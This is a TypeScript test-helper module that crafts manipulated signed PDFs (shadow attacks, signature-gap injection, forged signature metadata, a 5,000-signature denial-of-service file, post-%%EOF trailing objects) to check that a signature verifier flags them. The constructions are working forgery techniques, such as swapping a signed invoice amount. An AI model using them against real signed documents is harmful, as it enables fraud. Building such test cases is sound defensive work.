/*
 * Builders of manipulated PDFs: the attacks a verifier must not be fooled by (PDF-Insecurity research by Mainka,
 * Mladenov, Rohlmann and Schwenk: Universal Signature Forgery, Incremental Saving Attack, Signature Wrapping, and the
 * Shadow Attacks hide / replace / hide-and-replace), plus the small honest changes a verifier must classify.
 * Each builder starts from a PDF our engine signed. Incremental attacks are written here byte by byte (objects, a
 * classic xref section, a trailer with /Prev), so every byte the first signature covers stays where it was and the
 * tests control exactly which objects a revision redefines.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFNumber,
  type PDFObject,
  PDFStream,
  PDFRef,
  PDFString,
  StandardFonts,
} from '@cantoo/pdf-lib';
import { trimDer } from '../../core/signing/byte-ranges.ts';
import { buildSignedData } from '../../core/signing/cms.ts';
import type { SigningKey } from '../../core/signing/types.ts';
import { tempFile } from './signing.ts';

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1');

/** One object of a revision: its number (generation 0) and its body between `obj` and `endobj`. */
interface RawObject {
  num: number;
  body: string | Uint8Array;
}

/** A stream object's body: `entries` of its dictionary (without /Length) and its data, uncompressed. */
function streamBody(entries: string, data: string | Uint8Array): Buffer {
  const bytes = typeof data === 'string' ? latin1(data) : Buffer.from(data);
  return Buffer.concat([latin1(`<< ${entries} /Length ${bytes.length} >>\nstream\n`), bytes, latin1('\nendstream')]);
}

/** A PDF literal string with the three characters that need it escaped; non-Latin-1 characters become '?'. */
function literal(text: string): string {
  const safe = text.replace(/[^\x20-\x7e\xa0-\xff]/g, '?');
  return `(${safe.replace(/([\\()])/g, '\\$1')})`;
}

function serializeObjects(
  objects: readonly RawObject[],
  start: number,
): { bytes: Buffer; offsets: Map<number, number> } {
  const parts: Buffer[] = [];
  const offsets = new Map<number, number>();
  let at = start;
  for (const object of objects) {
    const chunk = Buffer.concat([
      latin1(`${object.num} 0 obj\n`),
      typeof object.body === 'string' ? latin1(object.body) : Buffer.from(object.body),
      latin1('\nendobj\n'),
    ]);
    offsets.set(object.num, at);
    parts.push(chunk);
    at += chunk.length;
  }
  return { bytes: Buffer.concat(parts), offsets };
}

/** A classic xref section: contiguous runs of object numbers as subsections, 20-byte entries. */
function xrefSection(offsets: Map<number, number>, withFreeHead: boolean): string {
  const nums = [...offsets.keys()].sort((a, b) => a - b);
  const entries = new Map<number, string>();
  if (withFreeHead) entries.set(0, '0000000000 65535 f\r\n');
  for (const n of nums) entries.set(n, `${String(offsets.get(n)).padStart(10, '0')} 00000 n\r\n`);
  const all = [...entries.keys()].sort((a, b) => a - b);
  let text = 'xref\n';
  for (let i = 0; i < all.length;) {
    let j = i;
    while (j + 1 < all.length && all[j + 1] === all[j]! + 1) j++;
    text += `${all[i]} ${j - i + 1}\n${all
      .slice(i, j + 1)
      .map((n) => entries.get(n))
      .join('')}`;
    i = j + 1;
  }
  return text;
}

/** A complete one-revision PDF from objects 1..n (object 1 the catalog), classic xref. */
function buildRawPdf(objects: readonly RawObject[]): Uint8Array {
  const header = latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n');
  const { bytes, offsets } = serializeObjects(objects, header.length);
  const size = Math.max(...objects.map((o) => o.num)) + 1;
  const xrefAt = header.length + bytes.length;
  const tail = `${xrefSection(offsets, true)}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return new Uint8Array(Buffer.concat([header, bytes, latin1(tail)]));
}

interface Loaded {
  doc: PDFDocument;
  /** The next free object number. */
  next: () => number;
}

async function load(pdf: Uint8Array): Promise<Loaded> {
  const doc = await PDFDocument.load(pdf, { updateMetadata: false, ignoreEncryption: true });
  let next = doc.context.largestObjectNumber + 1;
  return { doc, next: () => next++ };
}

/** Offset of the last cross-reference section (the /Prev of a new one). */
function lastStartxref(pdf: Uint8Array): number {
  const tail = Buffer.from(pdf.buffer, pdf.byteOffset, pdf.byteLength)
    .subarray(Math.max(0, pdf.length - 2048))
    .toString('latin1');
  const all = [...tail.matchAll(/startxref\s+(\d+)/g)];
  if (all.length === 0) throw new Error('no startxref in the last 2 KB');
  return Number(all.at(-1)![1]);
}

/**
 * Appends one incremental update: `objects` (new ones, or redefinitions under the same number), a classic xref
 * section for exactly them, a trailer with /Prev and the same /Root, /Info and /ID (unless `trailer` overrides).
 */
function appendRevision(
  pdf: Uint8Array,
  loaded: Loaded,
  objects: readonly RawObject[],
  trailer: { info?: PDFRef } = {},
): Uint8Array {
  const original = Buffer.from(pdf.buffer, pdf.byteOffset, pdf.byteLength);
  const lead = original.at(-1) === 0x0a || original.at(-1) === 0x0d ? latin1('') : latin1('\n');
  const { bytes, offsets } = serializeObjects(objects, original.length + lead.length);
  const info = loaded.doc.context.trailerInfo;
  const size = Math.max(loaded.doc.context.largestObjectNumber, ...objects.map((o) => o.num)) + 1;
  const entries = [`/Size ${size}`, `/Root ${String(info.Root)}`];
  const infoRef = trailer.info ?? info.Info;
  if (infoRef) entries.push(`/Info ${String(infoRef)}`);
  if (info.ID) entries.push(`/ID ${String(info.ID)}`);
  entries.push(`/Prev ${lastStartxref(pdf)}`);
  const xrefAt = original.length + lead.length + bytes.length;
  const tail = `${xrefSection(offsets, false)}trailer\n<< ${entries.join(' ')} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return new Uint8Array(Buffer.concat([original, lead, bytes, latin1(tail)]));
}

function pageOf(doc: PDFDocument, page: number): { ref: PDFRef; node: PDFDict } {
  const found = doc.getPages()[page - 1];
  if (!found) throw new Error(`the PDF has no page ${page}`);
  return { ref: found.ref, node: found.node };
}

/** A copy of `dict` whose entries `changes` replace (undefined deletes), serialized as an object body. */
function redefine(loaded: Loaded, dict: PDFDict, changes: Record<string, PDFObject | undefined>): string {
  const copy = dict.clone(loaded.doc.context);
  for (const [key, value] of Object.entries(changes)) {
    if (value === undefined) copy.delete(PDFName.of(key));
    else copy.set(PDFName.of(key), value);
  }
  return copy.toString();
}

/** The page's /Contents as a list of references (a single stream or an array of them). */
function contentRefs(node: PDFDict): PDFRef[] {
  const contents = node.get(PDFName.of('Contents'));
  if (contents instanceof PDFRef) return [contents];
  if (contents instanceof PDFArray) return contents.asArray().filter((o): o is PDFRef => o instanceof PDFRef);
  return [];
}

/** The page's resource dictionary, inherited or its own. */
function resourcesOf(loaded: Loaded, node: PDFDict): PDFDict | undefined {
  const own = node.get(PDFName.of('Resources'));
  if (own) return loaded.doc.context.lookup(own, PDFDict);
  const parent = node.get(PDFName.of('Parent'));
  return parent ? resourcesOf(loaded, loaded.doc.context.lookup(parent, PDFDict)) : undefined;
}

/**
 * Adds `ref` to the page's /Annots: an indirect /Annots array is redefined under its own number, an inline one
 * (or none) goes into the page dictionary, which is then redefined. Returns the objects to write.
 */
function withAnnotation(loaded: Loaded, page: { ref: PDFRef; node: PDFDict }, refs: PDFRef[]): RawObject[] {
  const { context } = loaded.doc;
  const annots = page.node.get(PDFName.of('Annots'));
  if (annots instanceof PDFRef) {
    const array = context.lookup(annots, PDFArray).clone(context);
    for (const ref of refs) array.push(ref);
    return [{ num: annots.objectNumber, body: array.toString() }];
  }
  const array = annots instanceof PDFArray ? annots.clone(context) : context.obj([]);
  for (const ref of refs) array.push(ref);
  return [{ num: page.ref.objectNumber, body: redefine(loaded, page.node, { Annots: array }) }];
}

/**
 * Adds field refs to the AcroForm's /Fields (creating the form when there is none): redefines the indirect /Fields
 * array, the indirect AcroForm, or the catalog, whichever holds the inline part.
 */
function withFields(loaded: Loaded, refs: PDFRef[]): RawObject[] {
  const { context, catalog } = loaded.doc;
  const rootRef = context.trailerInfo.Root as PDFRef;
  const formEntry = catalog.get(PDFName.of('AcroForm'));
  const form = formEntry ? context.lookup(formEntry, PDFDict) : context.obj({});
  const fieldsEntry = form.get(PDFName.of('Fields'));
  if (fieldsEntry instanceof PDFRef) {
    const fields = context.lookup(fieldsEntry, PDFArray).clone(context);
    for (const ref of refs) fields.push(ref);
    return [{ num: fieldsEntry.objectNumber, body: fields.toString() }];
  }
  const fields = fieldsEntry instanceof PDFArray ? fieldsEntry.clone(context) : context.obj([]);
  for (const ref of refs) fields.push(ref);
  const newForm = redefine(loaded, form, { Fields: fields });
  if (formEntry instanceof PDFRef) return [{ num: formEntry.objectNumber, body: newForm }];
  const formCopy = form.clone(context);
  formCopy.set(PDFName.of('Fields'), fields);
  return [{ num: rootRef.objectNumber, body: redefine(loaded, catalog, { AcroForm: formCopy }) }];
}

/** Merges object lists, a later definition of the same number winning (e.g. a page redefined twice). */
function merge(...lists: RawObject[][]): RawObject[] {
  const byNum = new Map<number, RawObject>();
  for (const object of lists.flat()) byNum.set(object.num, object);
  return [...byNum.values()];
}

/** The resource name of a simple (not Type0) font of the page, to draw Latin text without touching its resources. */
function simpleFontOf(loaded: Loaded, node: PDFDict): string | undefined {
  const fonts = resourcesOf(loaded, node)?.lookupMaybe(PDFName.of('Font'), PDFDict);
  const simple = fonts?.entries().find(([, ref]) => {
    const font = loaded.doc.context.lookup(ref);
    return font instanceof PDFDict && font.get(PDFName.of('Subtype'))?.toString() !== '/Type0';
  });
  return simple?.[0].decodeText();
}

const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

// ---------------------------------------------------------------------------------------------------------------
// Changes after signing
// ---------------------------------------------------------------------------------------------------------------

/**
 * A viewer shows `text` in big red letters over page `page`; honest verdict: changed-after-signing, a disallowed
 * page-content change (the page's /Contents becomes [old..., new]; an existing simple font of the page is reused so
 * nothing else of the page changes, or Helvetica is added to its resources when it has none).
 */
export async function appendOverlayText(signed: Uint8Array, text = 'PAID IN FULL', page = 1): Promise<Uint8Array> {
  const loaded = await load(signed);
  const { context } = loaded.doc;
  const target = pageOf(loaded.doc, page);
  const resources = resourcesOf(loaded, target.node);
  const fonts = resources?.lookupMaybe(PDFName.of('Font'), PDFDict);
  const objects: RawObject[] = [];
  const changes: Record<string, PDFObject> = {};
  let fontName = simpleFontOf(loaded, target.node);
  if (!fontName) {
    const fontRef = PDFRef.of(loaded.next());
    objects.push({ num: fontRef.objectNumber, body: HELVETICA });
    fontName = 'FAttack';
    const newResources = (resources ?? context.obj({})).clone(context);
    const newFonts = (fonts ?? context.obj({})).clone(context);
    newFonts.set(PDFName.of(fontName), fontRef);
    newResources.set(PDFName.of('Font'), newFonts);
    changes.Resources = newResources;
  }
  const contentRef = PDFRef.of(loaded.next());
  objects.push({
    num: contentRef.objectNumber,
    body: streamBody('', `q 1 0 0 rg BT /${fontName} 48 Tf 1 0 0 1 60 420 Tm ${literal(text)} Tj ET Q`),
  });
  changes.Contents = context.obj([...contentRefs(target.node), contentRef]);
  objects.push({ num: target.ref.objectNumber, body: redefine(loaded, target.node, changes) });
  return appendRevision(signed, loaded, objects);
}

/**
 * A viewer shows a FreeText annotation reading `text` (with its own appearance, so no viewer has to synthesize
 * one) on page 1; honest verdict: an annotation change, disallowed after an approval signature or a P=1/P=2
 * certification, allowed under P=3.
 */
export async function appendFreeTextAnnotation(signed: Uint8Array, text: string, page = 1): Promise<Uint8Array> {
  const loaded = await load(signed);
  const target = pageOf(loaded.doc, page);
  const fontRef = loaded.next();
  const appearanceRef = loaded.next();
  const annotRef = PDFRef.of(loaded.next());
  const rect = [50, 560, 450, 600];
  const appearance = streamBody(
    `/Type /XObject /Subtype /Form /BBox [0 0 ${rect[2]! - rect[0]!} ${rect[3]! - rect[1]!}] ` +
      `/Resources << /Font << /Helv ${fontRef} 0 R >> >>`,
    `q 1 1 0.8 rg 0 0 400 40 re f Q BT 1 0 0 rg /Helv 18 Tf 8 14 Td ${literal(text)} Tj ET`,
  );
  const annot =
    `<< /Type /Annot /Subtype /FreeText /Rect [${rect.join(' ')}] /Contents ${PDFHexString.fromText(text).toString()}` +
    ` /DA (1 0 0 rg /Helv 18 Tf) /F 4 /P ${target.ref.toString()} /AP << /N ${appearanceRef} 0 R >> ` +
    `/M ${PDFString.fromDate(new Date()).toString()} >>`;
  return appendRevision(signed, loaded, [
    { num: fontRef, body: HELVETICA },
    { num: appearanceRef, body: appearance },
    { num: annotRef.objectNumber, body: annot },
    ...withAnnotation(loaded, target, [annotRef]),
  ]);
}

// ---------------------------------------------------------------------------------------------------------------
// Shadow attacks: prepared originals (signed unchanged by our engine) and the updates that reveal their shadow
// ---------------------------------------------------------------------------------------------------------------

/** The harmless amount the signer sees, the one the attacker wants shown after signing, and the invoice title. */
export const SHADOW_TEXT = {
  title: 'INVOICE No. 2026-001',
  honest: 'Amount: 1,000 JPY',
  evil: 'Amount: 9,999,999 JPY',
} as const;

/** Object number of the unreferenced evil content stream of `prepareHideAndReplaceOriginal`. */
export const SHADOW_PAYLOAD_OBJECT = 8;

const line = (text: string, y: number) => `BT /F1 18 Tf 72 ${y} Td ${literal(text)} Tj ET\n`;
const TITLE = line(SHADOW_TEXT.title, 760);
const AMOUNT_Y = 700;

/** One A4-ish page: objects 1 catalog, 2 pages, 3 page, 4 contents, 5 Helvetica, then XObjects /Fm1, /Fm2 (6, 7). */
function shadowPdf(content: string, xobjects: { fm1?: string; fm2?: string } = {}, extra: RawObject[] = []) {
  const formXObject = (data: string) =>
    streamBody('/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>', data);
  const names = [xobjects.fm1 !== undefined ? '/Fm1 6 0 R' : '', xobjects.fm2 !== undefined ? '/Fm2 7 0 R' : '']
    .filter(Boolean)
    .join(' ');
  const objects: RawObject[] = [
    { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
    { num: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    {
      num: 3,
      body:
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ' +
        `/Resources << /Font << /F1 5 0 R >> /XObject << ${names} >> >> /Contents 4 0 R >>`,
    },
    { num: 4, body: streamBody('', content) },
    { num: 5, body: HELVETICA },
    ...(xobjects.fm1 !== undefined ? [{ num: 6, body: formXObject(xobjects.fm1) }] : []),
    ...(xobjects.fm2 !== undefined ? [{ num: 7, body: formXObject(xobjects.fm2) }] : []),
    ...extra,
  ];
  return buildRawPdf(objects);
}

/**
 * The plain page the shadow originals render as (title and one amount line, nothing hidden): a reference for
 * comparing renderings of the attacked files.
 */
export function buildInvoicePdf(amount: string): Uint8Array {
  return shadowPdf(TITLE + line(amount, AMOUNT_Y));
}

/**
 * Hide original: the page draws the evil amount, then /Fm1, an opaque white box with the honest amount on it; a
 * viewer shows only "Amount: 1,000 JPY" (text extraction finds both lines).
 */
export function prepareHideOriginal(): Uint8Array {
  return shadowPdf(`${TITLE}${line(SHADOW_TEXT.evil, AMOUNT_Y)}q /Fm1 Do Q\n`, {
    fm1: `q 1 1 1 rg 60 ${AMOUNT_Y - 12} 400 40 re f Q\n0 g\n${line(SHADOW_TEXT.honest, AMOUNT_Y)}`,
  });
}

/** Replace original: the page draws the amount through the form XObject /Fm2 ("Amount: 1,000 JPY"). */
export function prepareReplaceOriginal(): Uint8Array {
  return shadowPdf(`${TITLE}q /Fm2 Do Q\n`, { fm2: line(SHADOW_TEXT.honest, AMOUNT_Y) });
}

/**
 * Hide-and-replace original: the page shows the honest amount; object 8 (SHADOW_PAYLOAD_OBJECT) is an unreferenced
 * content stream with the evil amount, signed along with everything else but drawn by nothing.
 */
export function prepareHideAndReplaceOriginal(): Uint8Array {
  return shadowPdf(`${TITLE}${line(SHADOW_TEXT.honest, AMOUNT_Y)}`, {}, [
    { num: SHADOW_PAYLOAD_OBJECT, body: streamBody('', `${TITLE}${line(SHADOW_TEXT.evil, AMOUNT_Y)}`) },
  ]);
}

function xobjectRef(loaded: Loaded, name: string, page = 1): PDFRef {
  const resources = resourcesOf(loaded, pageOf(loaded.doc, page).node);
  const ref = resources?.lookupMaybe(PDFName.of('XObject'), PDFDict)?.get(PDFName.of(name));
  if (!(ref instanceof PDFRef)) throw new Error(`page ${page} has no indirect XObject /${name}`);
  return ref;
}

/**
 * Shadow hide: redefines /Fm1 (same object number) as an empty form, so a viewer now shows the evil amount the
 * overlay covered; honest verdict: changed-after-signing, a disallowed page-resources change.
 */
export async function shadowHide(signed: Uint8Array): Promise<Uint8Array> {
  const loaded = await load(signed);
  const ref = xobjectRef(loaded, 'Fm1');
  return appendRevision(signed, loaded, [
    { num: ref.objectNumber, body: streamBody('/Type /XObject /Subtype /Form /BBox [0 0 595 842]', '') },
  ]);
}

/**
 * Shadow replace: redefines /Fm2 (same object number, same resources) to draw `text`, so a viewer shows
 * "Amount: 9,999,999 JPY" where the signer saw 1,000; honest verdict: changed-after-signing, page-resources.
 */
export async function shadowReplace(signed: Uint8Array, text: string = SHADOW_TEXT.evil): Promise<Uint8Array> {
  const loaded = await load(signed);
  const ref = xobjectRef(loaded, 'Fm2');
  const old = loaded.doc.context.lookup(ref);
  if (!(old instanceof PDFStream)) throw new Error('/Fm2 is not a stream');
  const resources = old.dict.get(PDFName.of('Resources'));
  const bbox = old.dict.get(PDFName.of('BBox'));
  return appendRevision(signed, loaded, [
    {
      num: ref.objectNumber,
      body: streamBody(
        `/Type /XObject /Subtype /Form /BBox ${String(bbox)} /Resources ${String(resources)}`,
        line(text, AMOUNT_Y),
      ),
    },
  ]);
}

/**
 * Shadow hide-and-replace: redefines page 1 (same object number) with /Contents pointing at the signed but
 * unreferenced payload object, adding no content bytes; a viewer shows the evil amount; honest verdict:
 * changed-after-signing, a disallowed page-content change.
 */
export async function shadowHideAndReplace(
  signed: Uint8Array,
  payloadObject = SHADOW_PAYLOAD_OBJECT,
): Promise<Uint8Array> {
  const loaded = await load(signed);
  const page = pageOf(loaded.doc, 1);
  return appendRevision(signed, loaded, [
    { num: page.ref.objectNumber, body: redefine(loaded, page.node, { Contents: PDFRef.of(payloadObject) }) },
  ]);
}

// ---------------------------------------------------------------------------------------------------------------
// Attacks on the signature itself
// ---------------------------------------------------------------------------------------------------------------

interface FoundSignature {
  ref: PDFRef;
  dict: PDFDict;
  byteRange: [number, number, number, number];
}

/** The signature dictionaries (anything with a /ByteRange) in file order of the gaps they describe. */
function signatureDicts(loaded: Loaded): FoundSignature[] {
  const found: FoundSignature[] = [];
  for (const [ref, object] of loaded.doc.context.enumerateIndirectObjects()) {
    if (!(object instanceof PDFDict)) continue;
    const range = object.lookupMaybe(PDFName.of('ByteRange'), PDFArray);
    if (!range || range.size() !== 4) continue;
    const byteRange = range.asArray().map((n) => (n instanceof PDFNumber ? n.asNumber() : NaN));
    if (byteRange.some(Number.isNaN)) continue;
    found.push({ ref, dict: object, byteRange: byteRange as FoundSignature['byteRange'] });
  }
  return found.sort((x, y) => x.byteRange[1] - y.byteRange[1]);
}

async function signatureAt(signed: Uint8Array, index: number): Promise<{ loaded: Loaded; signature: FoundSignature }> {
  const loaded = await load(signed);
  const signature = signatureDicts(loaded)[index];
  if (!signature) throw new Error(`the PDF has no signature ${index}`);
  return { loaded, signature };
}

/**
 * Bytes injected into signature `signatureIndex`'s unsigned /Contents gap, keeping its length (the zero padding
 * shrinks), so the ByteRange still matches and the CMS still verifies: by default `> /Injected <`, which leaves a
 * well-formed dictionary (`/Contents <cms> /Injected <00…>`); a viewer shows the same page; honest verdict: the
 * signature is still found and reported (its gap is no longer one clean hex string), never "0 signatures".
 */
export async function injectIntoGap(
  signed: Uint8Array,
  signatureIndex = 0,
  payload = '> /Injected <',
): Promise<Uint8Array> {
  const { signature } = await signatureAt(signed, signatureIndex);
  const [a, b, c] = signature.byteRange;
  const gap = Buffer.from(signed.subarray(a + b, c)).toString('latin1');
  const hex = /^<([0-9A-Fa-f]*)>$/.exec(gap)?.[1];
  if (hex === undefined) throw new Error('the gap is not a single hex string');
  const der = Buffer.from(trimDer(Buffer.from(hex, 'hex')))
    .toString('hex')
    .toUpperCase();
  const padding = gap.length - 2 - der.length - payload.length;
  if (padding < 0) throw new Error('the payload does not fit the gap');
  // An even number of zeros after the payload; the odd byte left becomes a space inside the CMS hex string, where
  // white space is ignored (ISO 32000-1 §7.3.4.3).
  const space = padding % 2 === 1 ? ' ' : '';
  const out = Buffer.from(signed);
  out.write(`<${der}${space}${payload}${'0'.repeat(padding - space.length)}>`, a + b, 'latin1');
  return new Uint8Array(out);
}

/** What `redefineSignatureDictionary` changes in the redefined signature dictionary. */
export type SignatureRedefinition = 'byte-range' | 'contents' | 'metadata';

/**
 * An incremental update that redefines signature `signatureIndex`'s dictionary under its own object number:
 * 'byte-range' halves the range's last part (covering less), 'contents' zeroes the CMS (same length), 'metadata'
 * changes /M and /Name to a forger's; a viewer shows the same page; honest verdict: changed-after-signing, a
 * signature-modified change, and the signature is judged by what its own revision holds.
 */
export async function redefineSignatureDictionary(
  signed: Uint8Array,
  signatureIndex = 0,
  change: SignatureRedefinition = 'metadata',
): Promise<Uint8Array> {
  const { loaded, signature } = await signatureAt(signed, signatureIndex);
  const { context } = loaded.doc;
  const [a, b, c, d] = signature.byteRange;
  const changes: Record<string, PDFObject> = {};
  if (change === 'byte-range') changes.ByteRange = context.obj([a, b, c, Math.floor(d / 2)]);
  if (change === 'contents') {
    const contents = signature.dict.lookup(PDFName.of('Contents'), PDFHexString);
    changes.Contents = PDFHexString.of('0'.repeat(contents.asString().length));
  }
  if (change === 'metadata') {
    changes.Name = PDFHexString.fromText('Mallory Forger');
    changes.M = PDFString.fromDate(new Date('2030-01-01T00:00:00Z'));
  }
  return appendRevision(signed, loaded, [
    { num: signature.ref.objectNumber, body: redefine(loaded, signature.dict, changes) },
  ]);
}

/**
 * One incremental update adding `copies` signature fields on page 1, each with its own signature dictionary holding
 * the first signature's /ByteRange, /Filter, /SubFilter and /Contents (one shared indirect string, so 5,000 copies
 * stay a file of about 1.5 MB; `inlineContents` repeats the whole hex string instead); a viewer shows the same page
 * and lists `copies` + 1 signatures; honest verdict: each distinct ByteRange is checked once (the DoS of the audit).
 */
export async function repeatByteRange(
  signed: Uint8Array,
  copies = 5000,
  options: { inlineContents?: boolean } = {},
): Promise<Uint8Array> {
  const { loaded, signature } = await signatureAt(signed, 0);
  const page = pageOf(loaded.doc, 1);
  const original = signature.dict.get(PDFName.of('Contents'));
  const contents = original instanceof PDFRef ? original : signature.dict.lookup(PDFName.of('Contents'));
  if (!contents) throw new Error('the first signature has no /Contents');
  const objects: RawObject[] = [];
  let contentsText = contents.toString();
  if (!options.inlineContents && !(contents instanceof PDFRef)) {
    const shared = loaded.next();
    objects.push({ num: shared, body: contents.toString() });
    contentsText = `${shared} 0 R`;
  }
  const head =
    `<< /Type /Sig /Filter ${String(signature.dict.get(PDFName.of('Filter')))} ` +
    `/SubFilter ${String(signature.dict.get(PDFName.of('SubFilter')))} ` +
    `/ByteRange [${signature.byteRange.join(' ')}] /Contents ${contentsText}`;
  const widgets: PDFRef[] = [];
  for (let i = 1; i <= copies; i++) {
    const sig = loaded.next();
    const widget = loaded.next();
    objects.push({ num: sig, body: `${head} /Name (Copy ${i}) >>` });
    objects.push({
      num: widget,
      body: `<< /Type /Annot /Subtype /Widget /FT /Sig /T (Copy${i}) /Rect [0 0 0 0] /F 132 /V ${sig} 0 R /P ${page.ref.toString()} >>`,
    });
    widgets.push(PDFRef.of(widget));
  }
  return appendRevision(
    signed,
    loaded,
    merge(objects, withFields(loaded, widgets), withAnnotation(loaded, page, widgets)),
  );
}

// ---------------------------------------------------------------------------------------------------------------
// Full rewrites, honest small changes, trailing bytes
// ---------------------------------------------------------------------------------------------------------------

/**
 * The file rewritten by qpdf (objects renumbered into object streams, new offsets): the signatures' ByteRanges no
 * longer describe the bytes; a viewer shows the same page; honest verdict: invalid (the first signature is broken).
 */
export function rewriteWithQpdf(signed: Uint8Array, args: string[] = ['--object-streams=generate']): Uint8Array {
  const input = tempFile('rewrite-in.pdf', signed);
  const output = tempFile('rewrite-out.pdf');
  execFileSync('qpdf', [...args, input, output]);
  return new Uint8Array(readFileSync(output));
}

/** The file loaded and saved again by pdf-lib (a full rewrite, not an update); honest verdict as rewriteWithQpdf. */
export async function rewriteWithPdfLib(signed: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.load(signed, { updateMetadata: false });
  return doc.save({ useObjectStreams: false });
}

/** Field name and values of `buildFormPdf`'s text field. */
export const FORM_FIELD = { name: 'amount', initial: '', filled: '9,999,999 JPY' } as const;

/** An unsigned one-page PDF with an empty AcroForm text field named "amount" (for form-fill revisions). */
export async function buildFormPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595.28, 841.89]);
  page.drawText('Order form - amount:', { x: 50, y: 780, size: 14, font });
  const field = doc.getForm().createTextField(FORM_FIELD.name);
  field.addToPage(page, { x: 220, y: 770, width: 200, height: 24, font });
  doc.setCreationDate(new Date('2026-01-01T00:00:00Z'));
  doc.setModificationDate(new Date('2026-01-01T00:00:00Z'));
  return doc.save({ useObjectStreams: false });
}

/** The small changes a verifier must classify, `appendUnsignedRevision` builds one per call. */
export type UnsignedRevisionKind = 'metadata' | 'annotation-widget-of-new-field' | 'form-fill';

/**
 * One unsigned incremental update: 'metadata' sets /Info /Title (viewers show it in document properties only;
 * honest verdict: a metadata change); 'annotation-widget-of-new-field' adds an empty, unsigned signature field with
 * an invisible widget on page 1 (nothing visible; a new signature field); 'form-fill' sets the value and appearance
 * of the text field `options.field` (default "amount", see buildFormPdf) so a viewer shows `options.value`
 * (form-fill: allowed under P=2 and P=3, not after an approval signature unless a later signature covers it).
 */
export async function appendUnsignedRevision(
  signed: Uint8Array,
  kind: UnsignedRevisionKind,
  options: { title?: string; field?: string; value?: string } = {},
): Promise<Uint8Array> {
  const loaded = await load(signed);
  const { context } = loaded.doc;
  if (kind === 'metadata') {
    const infoEntry = context.trailerInfo.Info;
    const info = infoEntry ? context.lookup(infoEntry, PDFDict) : context.obj({});
    const num = infoEntry instanceof PDFRef ? infoEntry.objectNumber : loaded.next();
    const body = redefine(loaded, info, {
      Title: PDFHexString.fromText(options.title ?? 'Changed title'),
      ModDate: PDFString.fromDate(new Date()),
    });
    return appendRevision(signed, loaded, [{ num, body }], { info: PDFRef.of(num) });
  }
  if (kind === 'annotation-widget-of-new-field') {
    const page = pageOf(loaded.doc, 1);
    const widget = PDFRef.of(loaded.next());
    const body = `<< /Type /Annot /Subtype /Widget /FT /Sig /T (EmptySignature) /Rect [0 0 0 0] /F 132 /P ${page.ref.toString()} >>`;
    return appendRevision(
      signed,
      loaded,
      merge([{ num: widget.objectNumber, body }], withFields(loaded, [widget]), withAnnotation(loaded, page, [widget])),
    );
  }
  const name = options.field ?? FORM_FIELD.name;
  const value = options.value ?? FORM_FIELD.filled;
  const form = context.lookup(loaded.doc.catalog.get(PDFName.of('AcroForm')), PDFDict);
  const fields = form.lookup(PDFName.of('Fields'), PDFArray);
  let fieldRef: PDFRef | undefined;
  for (const entry of fields.asArray()) {
    const field = context.lookup(entry, PDFDict);
    if (field.lookupMaybe(PDFName.of('T'), PDFString, PDFHexString)?.decodeText() === name) fieldRef = entry as PDFRef;
  }
  if (!fieldRef) throw new Error(`no form field named ${name}`);
  const field = context.lookup(fieldRef, PDFDict);
  const kids = field.lookupMaybe(PDFName.of('Kids'), PDFArray);
  const widgetRef = (kids?.get(0) as PDFRef | undefined) ?? fieldRef;
  const widget = context.lookup(widgetRef, PDFDict);
  const rect = widget
    .lookup(PDFName.of('Rect'), PDFArray)
    .asArray()
    .map((n) => (n as PDFNumber).asNumber());
  const [width, height] = [Math.abs(rect[2]! - rect[0]!), Math.abs(rect[3]! - rect[1]!)];
  const fontRef = loaded.next();
  const appearanceRef = PDFRef.of(loaded.next());
  const objects: RawObject[] = [
    { num: fontRef, body: HELVETICA },
    {
      num: appearanceRef.objectNumber,
      body: streamBody(
        `/Type /XObject /Subtype /Form /BBox [0 0 ${width} ${height}] /Resources << /Font << /Helv ${fontRef} 0 R >> >>`,
        `/Tx BMC q BT 0 g /Helv 12 Tf 2 ${Math.max(2, (height - 12) / 2 + 2)} Td ${literal(value)} Tj ET Q EMC`,
      ),
    },
  ];
  const ap = context.obj({ N: appearanceRef });
  if (widgetRef === fieldRef) {
    objects.push({
      num: fieldRef.objectNumber,
      body: redefine(loaded, field, { V: PDFHexString.fromText(value), AP: ap }),
    });
  } else {
    objects.push({ num: fieldRef.objectNumber, body: redefine(loaded, field, { V: PDFHexString.fromText(value) }) });
    objects.push({ num: widgetRef.objectNumber, body: redefine(loaded, widget, { AP: ap }) });
  }
  return appendRevision(signed, loaded, objects);
}

/**
 * Objects appended after the last %%EOF with no xref section or trailer: page 1's first content stream redefined
 * (same number) to draw `text`. A viewer that trusts the xref (poppler, pdf.js) shows the signed page; one that
 * "repairs" the file by scanning shows `text`; honest verdict: the bytes are reported as unsigned trailing bytes
 * (unrecognized-bytes), never as part of the signed revision.
 */
export async function trailingGarbage(signed: Uint8Array, text = 'PAID IN FULL'): Promise<Uint8Array> {
  const loaded = await load(signed);
  const page = pageOf(loaded.doc, 1);
  const first = contentRefs(page.node)[0];
  if (!first) throw new Error('page 1 has no content stream');
  const font = simpleFontOf(loaded, page.node);
  const words = font ? ` BT /${font} 48 Tf 60 420 Td ${literal(text)} Tj ET` : '';
  const { bytes } = serializeObjects(
    [{ num: first.objectNumber, body: streamBody('', `q 1 0 0 rg 50 400 400 80 re f Q${words}`) }],
    0,
  );
  return new Uint8Array(Buffer.concat([Buffer.from(signed), latin1('\n'), bytes]));
}

// ---------------------------------------------------------------------------------------------------------------
// Certified documents
// ---------------------------------------------------------------------------------------------------------------

/** True when the PDF has a certification signature: the catalog's /Perms holds /DocMDP. */
